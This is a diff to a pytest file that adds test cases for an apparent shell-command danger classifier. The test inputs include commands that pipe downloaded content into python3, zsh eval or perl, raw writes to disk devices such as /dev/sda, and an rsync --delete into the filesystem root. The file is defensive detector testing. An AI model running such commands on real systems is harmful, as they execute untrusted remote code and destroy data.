@@ -161,6 +161,28 @@ def test_what_a_substitution_runs_feeds_the_word_it_stands_in() -> None:
     assert curl.facts is not None and curl.facts.stdin_feeds == ()
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -s x | xargs -0 -I{} python3 -c {}",
+        "curl -s x | zsh -c 'eval \"$(cat)\"'",
+        'wget -qO- x | perl -e "$(cat)"',
+    ],
+)
+def test_a_download_reaching_the_code_through_xargs_or_a_substitution_is_run(line: str) -> None:
+    assert kind(line) == "download-runs"
+
+
+@pytest.mark.parametrize("line", ["> /dev/sda", ": > /dev/sda", "exec 4>/dev/sdb; cat img >&4"])
+def test_a_write_by_a_redirection_alone_is_judged_too(line: str) -> None:
+    assert kind(line) == "writes-device"
+
+
+def test_rsync_deleting_into_everything_removes_it() -> None:
+    assert kind("rsync -a --delete empty/ /") == "removes-root"
+    assert kind("rsync -a --delete src/ backup/") is None
+
+
 def test_a_write_to_a_process_substitution_feeds_the_command_inside() -> None:
     assert kind("curl -s x | tee >(ruby) >/dev/null") == "download-runs"
 
